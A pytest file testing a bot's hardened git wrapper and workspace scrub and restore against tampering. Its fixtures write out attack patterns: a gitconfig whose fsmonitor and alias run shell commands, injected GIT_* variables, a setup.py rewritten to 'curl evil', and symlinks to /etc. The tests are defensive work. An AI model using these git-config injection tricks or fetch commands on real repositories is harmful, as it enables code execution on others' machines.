"""The hardened git (`bot.workspace.git`) and the scrub (`bot.workspace.tree`): each rule, and what it stops."""

from __future__ import annotations

import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from bot.agents.planner import search_code
from bot.config.policy import Policy
from bot.core.errors import GitError
from bot.flow.gate import Action, Gate, GateRefused
from bot.sandboxes.base import unchanged
from bot.workspace.git import Git, hardened_env
from bot.workspace.tree import Tree, scrub, tracked_paths
from tests.gitrepos import make_repo

ROOT = Path(__file__).resolve().parents[2]
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="the worker drops to another uid only as root")


def committed(tmp_path: Path, files: dict[str, str]) -> tuple[Git, Tree]:
    root = make_repo(tmp_path / "repo", files) if (tmp_path / "repo").mkdir() is None else tmp_path
    git = Git(unchanged)
    git("commit", "-qm", "base", cwd=root)
    return git, Tree(git, root, git("rev-parse", "HEAD", cwd=root).strip())


def test_nothing_but_bot_workspace_git_starts_git() -> None:
    """One module owns running git: any other `subprocess` call of git in the bot is a way around the hardening."""
    pattern = re.compile(r"""\[\s*["']git["']""")
    offenders = [str(path.relative_to(ROOT)) for folder in ("bot", "jobs") for path in (ROOT / folder).rglob("*.py")
                 if pattern.search(path.read_text()) and path != ROOT / "bot" / "workspace" / "git.py"
                 and "doctor" not in path.parts]
    assert offenders == []


def test_the_environment_of_the_worker_does_not_reach_git(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    evil = tmp_path / "evil.gitconfig"
    evil.write_text(f"[core]\n\tfsmonitor = touch {tmp_path}/ran\n[alias]\n\tstatus = !touch {tmp_path}/ran\n")
    git, tree = committed(tmp_path, {"a.py": "A = 1\n"})
    for name, value in (("GIT_CONFIG_GLOBAL", str(evil)), ("GIT_DIR", str(tmp_path / "nowhere")),
                        ("GIT_CONFIG_PARAMETERS", f"'core.fsmonitor'='touch {tmp_path}/ran'"),
                        ("GIT_EXTERNAL_DIFF", f"touch {tmp_path}/ran"), ("GIT_SSH_COMMAND", "false")):
        monkeypatch.setenv(name, value)
    (tree.root / "a.py").write_text("A = 2\n")
    assert "a.py" in git("diff", cwd=tree.root)
    git("status", cwd=tree.root)
    assert not (tmp_path / "ran").exists()
    env = hardened_env("tok")
    assert not {k for k in env if k in ("GIT_DIR", "GIT_CONFIG_PARAMETERS", "GIT_EXTERNAL_DIFF", "GIT_SSH_COMMAND")}
    assert "tok" not in " ".join(v for k, v in env.items() if not k.startswith("GIT_CONFIG_VALUE"))


def test_a_git_file_or_link_where_our_git_directory_should_be_is_refused(tmp_path: Path) -> None:
    git, tree = committed(tmp_path, {"a.py": "A = 1\n"})
    fake = tmp_path / "fake"
    fake.mkdir()
    (fake / ".git").write_text(f"gitdir: {tree.root / '.git'}\n")
    with pytest.raises(GitError, match="not a repository of ours"):
        git("status", cwd=fake)
    linked = tmp_path / "linked"
    linked.mkdir()
    (linked / ".git").symlink_to(tree.root / ".git")
    with pytest.raises(GitError, match="not a repository of ours"):
        git("status", cwd=linked)


def test_pathspec_magic_is_a_file_name(tmp_path: Path) -> None:
    """`:(glob)**` named as a path would add every file the test phase wrote; it is a (missing) file name."""
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n", ".github/workflows/ci.yml": "name: ci\n"})
    (tree.root / ".github/workflows/evil.yml").write_text("on: push\n")
    (tree.root / "a.py").write_text("A = 2\n")
    with pytest.raises(GitError, match="did not match"):
        tree.patch([":(glob)**"])
    assert ".github" not in tree.patch(["a.py"])


def test_the_gate_sees_the_files_git_committed_not_the_names_given(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n", ".github/workflows/ci.yml": "name: ci\n"})
    (tree.root / ".github/workflows/ci.yml").write_text("name: pwned\n")
    sha = tree.commit(["./.github/../.github/workflows/ci.yml"], "x", _identity(), 1_700_000_000)
    assert tree.changed_files(sha) == [".github/workflows/ci.yml"]
    gate = Gate(Policy(default_branch="main"), lambda *a, **k: None)
    with pytest.raises(GateRefused):
        gate.enforce(Action(kind="push", target="issuesmith/1-x", branch="issuesmith/1-x",
                            paths=tuple(tree.changed_files(sha))))


def test_our_mirror_is_read_by_path_and_nothing_else_is(tmp_path: Path) -> None:
    git, tree = committed(tmp_path, {"a.py": "A = 1\n"})
    other = make_repo(tmp_path / "other", {"b.py": "B = 1\n"}) if (tmp_path / "other").mkdir() is None else None
    assert other is not None
    subprocess.run(["git", "commit", "-qm", "o"], cwd=other, check=True, capture_output=True)
    with pytest.raises(GitError, match="transport 'file' not allowed"):
        git("fetch", "-q", str(other), "HEAD", cwd=tree.root)
    git("fetch", "-q", str(other), "HEAD", cwd=tree.root, local=True)


def test_search_takes_one_line_and_never_reads_through_a_link(tmp_path: Path) -> None:
    secrets = tmp_path / "secrets"
    secrets.mkdir()
    (secrets / "notes.txt").write_text("KEYLINE one\n")
    _git, tree = committed(tmp_path, {"k/notes.txt": "plain notes\n", "a.py": "KEYLINE = 0\n"})
    assert "KEYLINE" in search_code(tree.root, "KEYLINE")
    (tree.root / "k/notes.txt").unlink()
    (tree.root / "k").rmdir()
    (tree.root / "k").symlink_to(secrets)  # what a test can leave: a tracked folder swapped for a link
    found = search_code(tree.root, "KEYLINE")
    assert "a.py" in found and "KEYLINE one" not in found
    assert "one line" in search_code(tree.root, "x\nKEYLINE")


@as_root
def test_git_reads_an_untrusted_tree_as_an_unprivileged_user(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "TOKEN_A = 1\n", "b.py": "TOKEN_B = 2\n"})
    (tree.root / "b.py").chmod(0o600)  # root's own file: the reader cannot open it
    assert "a.py" in search_code(tree.root, "TOKEN_")
    assert "TOKEN_B" not in search_code(tree.root, "TOKEN_")


def test_scrub_leaves_nothing_git_would_obey_and_keeps_build_output(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n", "pkg/b.py": "B = 1\n", "docs/x.md": "x\n", "link": "p"})
    root = tree.root
    subprocess.run(["git", "init", "-q", str(root / "pkg" / "inner")], check=True)
    (root / "pkg" / ".GIT").mkdir()
    (root / "pkg" / ".git").write_text("gitdir: /tmp\n")
    (root / "pkg" / ".gitattributes").write_text("* filter=x\n")
    os.mkfifo(root / "pkg" / "fifo")
    (root / "a.py").unlink()
    (root / "a.py").symlink_to("/etc/hosts")  # a link where the commit has a file
    shutil.rmtree(root / "docs")
    (root / "docs").symlink_to("/etc")  # ... or a folder
    (root / "new").symlink_to("/etc")  # on the way to the agents' new file new/mod.py
    (root / "node_modules" / ".bin").mkdir(parents=True)  # build output: its links stay (nothing follows them)
    (root / "node_modules" / "tool.js").write_text("//")
    (root / "node_modules" / ".bin" / "tool").symlink_to("../tool.js")
    (root / "pkg" / "b.py").chmod(0o4700)
    listing = tracked_paths(Git(unchanged)("ls-tree", "-r", "-z", "--full-tree", tree.base, cwd=root))
    assert scrub(root, listing, keep_out=["new/mod.py"]) == []
    left = sorted(os.path.relpath(os.path.join(d, n), root) for d, dirs, files in os.walk(root)
                  for n in (*dirs, *files) if not os.path.relpath(d, root).startswith(".git") and n != ".git")
    assert left == ["link", "node_modules", "node_modules/.bin", "node_modules/.bin/tool", "node_modules/tool.js",
                    "pkg", "pkg/b.py", "pkg/inner"]
    assert (root / "pkg" / "b.py").stat().st_mode & 0o7777 == 0o755


@as_root
def test_scrub_reports_what_is_not_the_workers(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n"})
    (tree.root / "made-by-the-sandbox").write_text("x")
    os.chown(tree.root / "made-by-the-sandbox", 65534, 65534)
    assert scrub(tree.root, tree.tracked()) == ["made-by-the-sandbox belongs to uid 65534"]


def test_restore_puts_tracked_paths_back_and_reapplies_the_edits(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n", "setup.py": "print('ok')\n"})
    (tree.root / "a.py").write_text("A = 2\n")
    (tree.root / "new.py").write_text("NEW = 1\n")
    patch = tree.patch(["a.py", "new.py"])
    (tree.root / "setup.py").write_text("import os; os.system('curl evil')\n")  # the tests rewrote a tracked file
    (tree.root / "new.py").write_text("NEW = 'backdoor'\n")  # and one the Coder made
    (tree.root / "cache.bin").write_text("kept")
    tree.restore(patch, ["a.py", "new.py"])
    assert (tree.root / "setup.py").read_text() == "print('ok')\n"
    assert (tree.root / "new.py").read_text() == "NEW = 1\n" and (tree.root / "a.py").read_text() == "A = 2\n"
    assert (tree.root / "cache.bin").read_text() == "kept"


def _identity():  # type: ignore[no-untyped-def]
    from bot.workspace.tree import Identity
    return Identity("issuesmith[bot]", "1+issuesmith[bot]@users.noreply.github.com")


def test_restore_never_deletes_through_a_link_on_the_way_to_an_edit(tmp_path: Path) -> None:
    _git, tree = committed(tmp_path, {"a.py": "A = 1\n"})
    (tree.root / "newpkg").mkdir()
    (tree.root / "newpkg" / "mod.py").write_text("M = 1\n")
    patch = tree.patch(["newpkg/mod.py"])
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "mod.py").write_text("the host's file\n")
    shutil.rmtree(tree.root / "newpkg")
    (tree.root / "newpkg").symlink_to(outside)  # the tests swap the Coder's new folder for a link
    tree.restore(patch, ["newpkg/mod.py"])
    assert (outside / "mod.py").read_text() == "the host's file\n"
    assert not (tree.root / "newpkg").is_symlink() and (tree.root / "newpkg" / "mod.py").read_text() == "M = 1\n"


def test_a_tag_named_like_the_branch_does_not_change_what_is_checked_out(tmp_path: Path) -> None:
    """Tags now reach the work trees (setuptools-scm needs them); a repository's tag `main` pointing elsewhere
    must not be taken for the branch when a job picks its commit."""
    import github

    from bot.core.redact import Redactor
    from bot.workspace.slots import Workspace
    from standins.github import FakeGitHub, generate_app_key
    from standins.server import ServerThread

    fake = FakeGitHub(tmp_path / "gh")
    with ServerThread(fake.app) as server:
        fake.bind(server.url)
        private, public = generate_app_key()
        fake.add_app(1, public)
        fake.add_installation(9, "acme")
        fake.add_repo("acme/tool", 9, {"app.py": "SAFE = True\n"})
        bare = fake.repo_path("acme/tool")
        head = subprocess.run(["git", "-C", str(bare), "rev-parse", "main"], capture_output=True, text=True,
                              check=True).stdout.strip()
        evil = subprocess.run(["git", "-C", str(bare), "commit-tree", "-m", "evil", f"{head}^{{tree}}"],
                              capture_output=True, text=True, check=True, env={**os.environ,
                              "GIT_AUTHOR_NAME": "m", "GIT_AUTHOR_EMAIL": "m@x", "GIT_COMMITTER_NAME": "m",
                              "GIT_COMMITTER_EMAIL": "m@x"}).stdout.strip()
        subprocess.run(["git", "-C", str(bare), "tag", "main", evil], check=True)
        token = github.GithubIntegration(auth=github.Auth.AppAuth(1, private),
                                         base_url=fake.api_url).get_access_token(9).token
        ws = Workspace(tmp_path / "work", Redactor())
        for _ in range(2):  # a fresh slot, then the reused one (which fetches tags)
            with ws.checkout("acme/tool", f"{server.url}/acme/tool.git", token, "main") as tree:
                assert tree.sha == head
                assert ws.git("rev-parse", "HEAD", cwd=tree.path).strip() == head
        fake.close()
